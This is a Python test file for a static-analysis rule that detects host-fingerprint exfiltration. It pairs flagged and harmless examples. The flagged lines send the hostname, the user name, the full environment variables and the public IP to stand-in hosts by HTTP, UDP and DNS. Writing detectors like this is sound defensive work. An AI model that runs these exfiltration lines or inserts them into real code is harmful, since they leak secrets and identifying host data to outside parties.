# Test for host-fingerprint-exfil (defanged: example.invalid).
import getpass
import os
import platform
import socket
import urllib.request

import requests

data = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
# ruleid: host-fingerprint-exfil
requests.post("https://example.invalid/collect", json=data)

env = dict(os.environ)
# ruleid: host-fingerprint-exfil
requests.get("https://example.invalid/e", params=env)

ip = requests.get("https://api.ipify.org").text
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
# ruleid: host-fingerprint-exfil
s.sendto((ip + platform.node()).encode(), ("203.0.113.5", 9999))

# ok: host-fingerprint-exfil
local_ip = socket.gethostbyname("localhost")
# ok: host-fingerprint-exfil
print("running on", socket.gethostname())
# ok: host-fingerprint-exfil
requests.get("https://example.invalid/status", timeout=5)
# ok: host-fingerprint-exfil
cache = os.path.join(os.getcwd(), ".cache")
# ok: host-fingerprint-exfil
my_ip = socket.gethostbyname(socket.gethostname())
# ok: host-fingerprint-exfil
lan_ips = socket.gethostbyname_ex(socket.gethostname() + ".local")[2]
# ruleid: host-fingerprint-exfil
socket.gethostbyname(getpass.getuser() + ".example.invalid")

who = os.environ.get("username", "")
# ruleid: host-fingerprint-exfil
urllib.request.urlopen("https://example.invalid/w?u=" + who)

path_var = os.environ["PATH"]
# ok: host-fingerprint-exfil
requests.post("https://example.invalid/p", data=path_var)

pub = urllib.request.urlopen("https://ipinfo.io/ip").read()
# ruleid: host-fingerprint-exfil
requests.post("https://example.invalid/ip", data=pub)
